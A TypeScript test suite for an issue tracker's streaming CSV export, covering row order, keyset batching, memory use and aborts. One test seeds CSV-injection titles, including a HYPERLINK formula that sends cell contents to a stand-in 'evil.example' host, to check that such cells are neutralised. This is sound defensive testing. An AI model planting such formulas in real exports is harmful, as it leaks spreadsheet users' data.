/**
 * The CSV export on every database (docs/product.md, Screens): the list's filters and order over every page, read
 * in keyset batches; hostile cells neutralised; and the shape of its memory use — one batch per
 * query, read only as the reader pulls.
 */
import { type KyselyPlugin, type PluginTransformQueryArgs, type PluginTransformResultArgs, type QueryResult, type RootOperationNode, SelectQueryNode, TableNode, type UnknownRow } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database, DatabaseHandle } from "~/db/database.server";
import { migrateToLatest } from "~/db/migrate.server";
import { statuses, type Status } from "~/db/schema";
import { createIssue } from "~/issues/issues.server";
import { type IssueFilters, listIssues, parseIssueFilters } from "~/issues/issue-list.server";
import { csvBatchSize, issuesCsvColumns, streamIssuesCsv } from "~/issues/issues-csv.server";
import { findWorkspaceAccess } from "~/workspaces/workspaces.server";
import { createTestDatabase, testDialects, type TestDatabase } from "../support/databases";
import { seedTestWorkspace } from "../support/workspaces";

const base = Date.parse("2025-03-01T12:00:00.000Z");
const minutes = (n: number) => new Date(base + n * 60_000).toISOString();

/** RFC 4180, strictly: every record ends in CRLF; a bare CR or LF is only allowed inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      }
      else quoted = false;
    } else if (c === '"') {
      if (cell || wasQuoted) throw new Error(`A quote inside an unquoted field at ${i}`);
      quoted = wasQuoted = true;
    } else if (c === ",") {
      row.push(cell);
      cell = "";
      wasQuoted = false;
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      wasQuoted = false;
      i++;
    } else if (c === "\r" || c === "\n") {
      throw new Error(`A bare line break outside quotes at ${i}`);
    } else {
      cell += c;
    }
  }
  if (quoted || cell || row.length) throw new Error("The last record does not end in CRLF");
  return rows;
}

async function readAll(stream: ReadableStream<Uint8Array>) {
  const bytes = new Uint8Array(await new Response(stream).arrayBuffer());
  return { bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}

/** The CSV's records after the BOM and the header, checking both. */
async function exportRows(db: Database, project: { id: number; key: string }, filters: IssueFilters, meId: number) {
  const { bytes, text } = await readAll(await streamIssuesCsv(db, { project, filters, meId }));
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header, ...rows] = parseCsv(text.slice(1));
  expect(header).toEqual([...issuesCsvColumns]);
  for (const row of rows) expect(row).toHaveLength(issuesCsvColumns.length);
  return rows;
}

/** Every page of the list, as the screen pages through it. */
async function allPages(db: Database, projectId: number, filters: IssueFilters, meId: number) {
  const first = await listIssues(db, projectId, { ...filters, page: 1 }, meId);
  const issues = [...first.issues];
  for (let page = 2; page <= first.pageCount; page++) issues.push(...(await listIssues(db, projectId, { ...filters, page }, meId)).issues);
  expect(issues).toHaveLength(first.total);
  return issues;
}

/** Counts the rows each query returns, by the table it selects from. */
class QueryRecorder implements KyselyPlugin {
  readonly queries: { table: string; rows: number }[] = [];
  private tables = new Map<string, string>();
  failOnIssueQuery: number | null = null;

  transformQuery({ node, queryId }: PluginTransformQueryArgs): RootOperationNode {
    const from = SelectQueryNode.is(node) ? node.from?.froms[0] : undefined;
    this.tables.set(queryId.queryId, from && TableNode.is(from) ? from.table.identifier.name : "other");
    return node;
  }

  async transformResult({ result, queryId }: PluginTransformResultArgs): Promise<QueryResult<UnknownRow>> {
    const table = this.tables.get(queryId.queryId) ?? "other";
    this.tables.delete(queryId.queryId);
    this.queries.push({ table, rows: result.rows.length });
    if (table === "issues" && this.issueQueries().length === this.failOnIssueQuery) throw new Error("connection lost");
    return result;
  }

  issueQueries() {
    return this.queries.filter((q) => q.table === "issues");
  }
}

type Seed = { projectId: number; otherProjectId: number; ownerId: number; bobId: number; eveId: number; labels: Record<string, number> };

async function seed(db: Database): Promise<Seed> {
  const acme = await seedTestWorkspace(db, {
    slug: "acme",
    name: "Acme",
    at: new Date(base),
    members: { "Olivia Owner": "owner", "Bob Builder": "member", "=Eve": "member" },
    projects: { WEB: "WEB", API: "API" },
    labels: { Bug: "gray", "Needs, comma": "gray", ux: "gray" },
  });
  const { "Olivia Owner": ownerId, "Bob Builder": bobId, "=Eve": eveId } = acme.users;
  return { projectId: acme.projects.WEB.id, otherProjectId: acme.projects.API.id, ownerId, bobId, eveId, labels: acme.labels };
}

/**
 * `count` issues numbered from `from`, with many ties in every sorted column, ordered differently
 * from their ids, so that batch edges fall inside runs of equal values.
 */
async function insertIssues(db: Database, s: Seed, projectId: number, from: number, count: number, labelEvery: Record<string, number> = {}) {
  const chunk = 1000;
  for (let start = from; start < from + count; start += chunk) {
    const values = [];
    for (let n = start; n < Math.min(from + count, start + chunk); n++) {
      const status: Status = statuses[n % statuses.length]!;
      const closed = status === "done" || status === "canceled";
      values.push({
        project_id: projectId,
        number: n,
        title: n % 10 === 3 ? `Login fails, case ${n}` : `Issue ${n}`,
        status,
        priority: (n * 7) % 5,
        assignee_id: n % 3 === 0 ? null : n % 3 === 1 ? s.bobId : s.ownerId,
        reporter_id: n % 2 ? s.ownerId : s.bobId,
        due_date: n % 4 === 0 ? null : `2025-04-${String((n % 20) + 1).padStart(2, "0")}`,
        closed_at: closed ? minutes(2000 + (n % 50)) : null,
        created_at: minutes((n * 37) % 400),
        updated_at: minutes(1000 + ((n * 53) % 300)),
      });
    }
    const ids = await db.insertInto("issues").values(values).returning(["id", "number"]).execute();
    const links = ids.flatMap(({ id, number }) =>
      Object.entries(labelEvery)
        .filter(([, every]) => number % every === 0)
        .map(([name]) => ({ issue_id: id, label_id: s.labels[name]! })),
    );
    if (links.length) await db.insertInto("issue_labels").values(links).execute();
  }
  await db.updateTable("projects").set({ next_issue_number: from + count }).where("id", "=", projectId).execute();
}

describe.each(testDialects)("CSV export on %s", (dialect) => {
  let database: TestDatabase;
  let handle: DatabaseHandle;
  let db: Database;
  let s: Seed;
  const issueCount = 1234;
  const web = () => ({ id: s.projectId, key: "WEB" });

  beforeAll(async () => {
    database = await createTestDatabase(dialect);
    handle = database.open();
    await migrateToLatest(handle);
    db = handle.db;
    s = await seed(db);
    await insertIssues(db, s, s.projectId, 1, issueCount, { Bug: 5, "Needs, comma": 7, ux: 11 });
    await insertIssues(db, s, s.otherProjectId, 1, 60);
  });

  afterAll(async () => {
    await handle?.db.destroy();
    await database?.drop();
  });

  const cases = [
    "",
    "sort=created",
    "sort=priority",
    "sort=due",
    "sort=number",
    "status=open&sort=priority",
    "status=closed&sort=due",
    "assignee=me",
    "assignee=unassigned&sort=due",
    "label=LABEL_BUG&sort=created",
    "priority=high&sort=number",
    "q=login&sort=priority",
    "status=in_progress,todo&assignee=BOB&label=LABEL_UX&sort=due",
    "page=3",
    "q=nothing-matches-this",
  ];

  it.each(cases)("has the same rows in the same order as every page of the list: %j", async (query) => {
    const params = new URLSearchParams(query.replace("LABEL_BUG", String(s.labels.Bug)).replace("LABEL_UX", String(s.labels.ux)).replace("BOB", String(s.bobId)));
    const filters = parseIssueFilters(params);
    const listed = await allPages(db, s.projectId, filters, s.ownerId);
    const rows = await exportRows(db, web(), filters, s.ownerId);
    expect(rows.map((row) => row[0])).toEqual(listed.map((issue) => `WEB-${issue.number}`));
    if (!query.startsWith("q=nothing")) expect(listed.length).toBeGreaterThan(0);
    if (query === "" || query === "page=3") expect(rows).toHaveLength(issueCount);
    // The same values as the list shows, column by column.
    const priorityNames = { none: "No priority", low: "Low", medium: "Medium", high: "High", urgent: "Urgent" };
    const statusNames = { backlog: "Backlog", todo: "Todo", in_progress: "In progress", in_review: "In review", done: "Done", canceled: "Canceled" };
    rows.forEach((row, i) => {
      const issue = listed[i]!;
      expect(row[1]).toBe(issue.title);
      expect(row[2]).toBe(statusNames[issue.status]);
      expect(row[3]).toBe(priorityNames[issue.priority]);
      expect(row[4]).toBe(issue.assigneeName === "=Eve" ? "'=Eve" : (issue.assigneeName ?? ""));
      expect(row[6]).toBe(issue.labels.map((l) => l.name).join(", "));
      expect(row[7]).toBe(issue.due_date ?? "");
      expect(row[9]).toBe(issue.updated_at);
    });
  });

  it("spans several batches of at most the batch size, and fills every column", async () => {
    const recorder = new QueryRecorder();
    const { text } = await readAll(await streamIssuesCsv(db.withPlugin(recorder), { project: web(), filters: parseIssueFilters(new URLSearchParams("sort=number")), meId: s.ownerId }));
    const issueQueries = recorder.issueQueries();
    expect(issueQueries.map((q) => q.rows)).toEqual([csvBatchSize, csvBatchSize, issueCount - 2 * csvBatchSize]);
    const rows = parseCsv(text.slice(1));
    // WEB-1: 1 % 6 → todo; 7 % 5 → medium; assigned to Bob, reported by Olivia; no label.
    expect(rows[1]).toEqual(["WEB-1", "Issue 1", "Todo", "Medium", "Bob Builder", "Olivia Owner", "", "2025-04-02", minutes(37), minutes(1053), ""]);
    // WEB-35: 35 % 6 → canceled (closed); labels Bug (every 5th) and "Needs, comma" (every 7th), by name.
    const closedAt = minutes(2035);
    expect(rows.find((row) => row[0] === "WEB-35")).toEqual([
      "WEB-35",
      "Issue 35",
      "Canceled",
      "No priority",
      "Olivia Owner",
      "Olivia Owner",
      "Bug, Needs, comma",
      "2025-04-16",
      minutes((35 * 37) % 400),
      minutes(1000 + ((35 * 53) % 300)),
      closedAt,
    ]);
    expect(text).toContain(`\r\nWEB-35,Issue 35,Canceled,No priority,Olivia Owner,Olivia Owner,"Bug, Needs, comma",2025-04-16,`);
    // Only this project's issues.
    expect(rows).toHaveLength(issueCount + 1);
  });

  it("neutralises formulas and quotes what needs quoting, keeping unicode", async () => {
    const workspaceId = (await findWorkspaceAccess(db, "acme", s.ownerId))!.id;
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+SUM(1,2)",
      "-2+3",
      "@cmd",
      "\tTabbed",
      'Quote "this", please',
      "Überprüfung ✓ 日本語 🚀",
    ];
    const numbers: number[] = [];
    for (const title of hostile) {
      const created = await createIssue(db, {
        project: { id: s.projectId, workspace_id: workspaceId },
        reporterId: s.eveId,
        fields: { title, description: "", status: "todo", priority: "urgent", assigneeId: s.eveId, labelIds: [s.labels["Needs, comma"]!], dueDate: null },
        now: new Date("2030-01-01T00:00:00.000Z"),
      });
      if (!("number" in created)) throw new Error(created.message);
      numbers.push(created.number);
    }
    // A title with a carriage return cannot be typed in (docs/product.md, Rules for what is submitted), but older rows might hold one.
    const { number: crNumber } = await db
      .insertInto("issues")
      .values({ project_id: s.projectId, number: 99_999, title: "\r=1+1", status: "todo", priority: 4, created_at: minutes(-1), updated_at: "2029-12-31T00:00:00.000Z" })
      .returning("number")
      .executeTakeFirstOrThrow();
    try {
      const filters = parseIssueFilters(new URLSearchParams("priority=urgent&assignee=" + s.eveId));
      const { text } = await readAll(await streamIssuesCsv(db, { project: web(), filters, meId: s.ownerId }));
      const lines = text.slice(1).split("\r\n");
      const at = "2030-01-01T00:00:00.000Z";
      expect(lines).toEqual([
        issuesCsvColumns.join(","),
        `WEB-${numbers[6]},Überprüfung ✓ 日本語 🚀,Todo,Urgent,'=Eve,'=Eve,"Needs, comma",,${at},${at},`,
        `WEB-${numbers[5]},"Quote ""this"", please",Todo,Urgent,'=Eve,'=Eve,"Needs, comma",,${at},${at},`,
        `WEB-${numbers[4]},'\tTabbed,Todo,Urgent,'=Eve,'=Eve,"Needs, comma",,${at},${at},`,
        `WEB-${numbers[3]},'@cmd,Todo,Urgent,'=Eve,'=Eve,"Needs, comma",,${at},${at},`,
        `WEB-${numbers[2]},'-2+3,Todo,Urgent,'=Eve,'=Eve,"Needs, comma",,${at},${at},`,
        `WEB-${numbers[1]},"'+SUM(1,2)",Todo,Urgent,'=Eve,'=Eve,"Needs, comma",,${at},${at},`,
        `WEB-${numbers[0]},"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Todo,Urgent,'=Eve,'=Eve,"Needs, comma",,${at},${at},`,
        "",
      ]);
      const unassigned = parseIssueFilters(new URLSearchParams("priority=urgent&assignee=unassigned&sort=number"));
      const rows = await exportRows(db, web(), unassigned, s.ownerId);
      expect(rows.at(-1)).toEqual([`WEB-${crNumber}`, "'\r=1+1", "Todo", "Urgent", "", "", "", "", minutes(-1), "2029-12-31T00:00:00.000Z", ""]);
      // The UTF-8 bytes of the accents, after the BOM.
      const bytes = new Uint8Array(await new Response(await streamIssuesCsv(db, { project: web(), filters, meId: s.ownerId })).arrayBuffer());
      expect(Buffer.from(bytes).includes(Buffer.from("Überprüfung ✓ 日本語 🚀", "utf8"))).toBe(true);
    } finally {
      // Their labels and activity go with them (on delete cascade).
      await db.deleteFrom("issues").where("project_id", "=", s.projectId).where("number", ">", issueCount).execute();
    }
  });

  // PostgreSQL only: its timestamps carry microseconds that the JavaScript dates of the other tests
  // cannot write; SQLite keeps the ISO text Cairn writes, which the tests above already page by.
  it.runIf(dialect === "postgres")("pages by the database's own timestamps, microseconds and all", async () => {
    const now = minutes(0);
    const workspaceId = (await findWorkspaceAccess(db, "acme", s.ownerId))!.id;
    const { id } = await db
      .insertInto("projects")
      .values({ workspace_id: workspaceId, key: "MIC", name: "Micro", created_at: now, updated_at: now })
      .returning("id")
      .executeTakeFirstOrThrow();
    // Written by something other than Cairn: within one millisecond, which the ISO strings read back round away.
    const stamps = ["12:00:00.123456", "12:00:00.123999", "12:00:00.123001", "12:00:00.123456", "12:00:00.123", "12:00:00.123500", "12:00:00.124"];
    await db
      .insertInto("issues")
      .values(stamps.map((time, i) => ({ project_id: id, number: i + 1, title: `Micro ${i + 1}`, status: "todo" as const, priority: 1, created_at: `2025-03-01T${time}Z`, updated_at: `2025-03-01T${time}Z` })))
      .execute();
    for (const sort of ["updated", "created", "priority"]) {
      const filters = parseIssueFilters(new URLSearchParams({ sort }));
      const listed = await allPages(db, id, filters, s.ownerId);
      const { text } = await readAll(await streamIssuesCsv(db, { project: { id, key: "MIC" }, filters, meId: s.ownerId, batchSize: 2 }));
      const keys = parseCsv(text.slice(1)).slice(1).map((row) => row[0]);
      expect(keys).toEqual(listed.map((issue) => `MIC-${issue.number}`));
      expect(keys).toHaveLength(stamps.length);
    }
  });

  it("stops reading when the request is aborted or the reader cancels", async () => {
    const filters = parseIssueFilters(new URLSearchParams());

    const aborted = new QueryRecorder();
    const controller = new AbortController();
    const reader = (await streamIssuesCsv(db.withPlugin(aborted), { project: web(), filters, meId: s.ownerId, signal: controller.signal })).getReader();
    expect((await reader.read()).done).toBe(false);
    controller.abort(new Error("client went away"));
    await expect(async () => {
      for (;;) if ((await reader.read()).done) break;
    }).rejects.toThrow("client went away");
    expect(aborted.issueQueries().length).toBeLessThanOrEqual(2);

    const cancelled = new QueryRecorder();
    const reader2 = (await streamIssuesCsv(db.withPlugin(cancelled), { project: web(), filters, meId: s.ownerId })).getReader();
    await reader2.read();
    await reader2.cancel();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(cancelled.issueQueries().length).toBeLessThanOrEqual(2);
  });

  it("reports an error that cuts the download short, and ends the stream with it", async () => {
    const failing = new QueryRecorder();
    failing.failOnIssueQuery = 2;
    const errors: unknown[] = [];
    const stream = await streamIssuesCsv(db.withPlugin(failing), { project: web(), filters: parseIssueFilters(new URLSearchParams()), meId: s.ownerId, onError: (e) => errors.push(e) });
    await expect(readAll(stream)).rejects.toThrow("connection lost");
    expect(errors).toHaveLength(1);
    expect((errors[0] as Error).message).toBe("connection lost");
  });
});

describe.each(testDialects)("CSV export of 50,000 issues on %s", (dialect) => {
  let database: TestDatabase;
  let handle: DatabaseHandle;
  let s: Seed;
  const issueCount = 50_000;

  beforeAll(async () => {
    database = await createTestDatabase(dialect);
    handle = database.open();
    await migrateToLatest(handle);
    s = await seed(handle.db);
    await handle.db.transaction().execute((trx) => insertIssues(trx, s, s.projectId, 1, issueCount, { Bug: 2 }));
  }, 180_000);

  afterAll(async () => {
    await handle?.db.destroy();
    await database?.drop();
  });

  it("reads one batch per query, only as fast as the reader pulls", { timeout: 180_000 }, async () => {
    const recorder = new QueryRecorder();
    const stream = await streamIssuesCsv(handle.db.withPlugin(recorder), {
      project: { id: s.projectId, key: "WEB" },
      filters: parseIssueFilters(new URLSearchParams("sort=priority")),
      meId: s.ownerId,
    });
    const reader = stream.getReader();
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    const first = await reader.read();
    // A reader that does not come back holds the export: at most one batch is read ahead of it.
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(recorder.issueQueries().length).toBeLessThanOrEqual(2);

    let text = decoder.decode(first.value, { stream: true });
    let chunks = 1;
    let largestChunk = first.value!.byteLength;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks++;
      largestChunk = Math.max(largestChunk, value.byteLength);
      text += decoder.decode(value, { stream: true });
    }
    const rows = parseCsv(text.slice(1)).slice(1);
    expect(rows).toHaveLength(issueCount);
    expect(new Set(rows.map((row) => row[0])).size).toBe(issueCount);
    // No query ever returned more than a batch (each issue has at most one label here).
    const issueQueries = recorder.issueQueries();
    expect(issueQueries).toHaveLength(issueCount / csvBatchSize + 1);
    expect(Math.max(...recorder.queries.map((q) => q.rows))).toBeLessThanOrEqual(csvBatchSize);
    expect(issueQueries.at(-1)!.rows).toBe(0);
    // One chunk per batch, each of a batch's size.
    expect(chunks).toBe(issueCount / csvBatchSize);
    expect(largestChunk).toBeLessThan(csvBatchSize * 200);
  });
});
